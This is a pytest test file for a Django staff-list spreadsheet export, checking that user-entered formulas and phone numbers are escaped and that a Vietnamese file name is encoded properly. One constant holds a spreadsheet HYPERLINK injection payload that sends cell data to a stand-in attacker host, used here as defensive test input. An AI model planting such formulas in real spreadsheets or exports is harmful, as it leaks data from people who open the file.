"""The staff list export never hands a spreadsheet a formula typed by a user."""

from __future__ import annotations

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from danvan.core.testing import client_for
from danvan.org.models import Person

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A2,"Bấm vào đây")'


def test_it_escapes_a_name_or_phone_that_starts_like_a_formula(principal_client, school):
    Person.objects.create(organisation=school, full_name=EVIL, email="", phone="+84912345678")
    response = principal_client.get(reverse("org:staff_export", args=[school.pk]))
    ws = load_workbook(io.BytesIO(response.content)).active
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'" + EVIL in [c.value for c in cells]
    assert "'+84912345678" in [c.value for c in cells]


def test_the_department_file_name_survives_its_vietnamese_code(department_officer, department):
    response = client_for(department_officer).get(reverse("org:staff_export", args=[department.pk]))
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert "=?utf-8?" not in disposition  # not a MIME word browsers show as garbage
    assert "filename*=utf-8''" in disposition and "SGD%C4%90T" in disposition.upper()
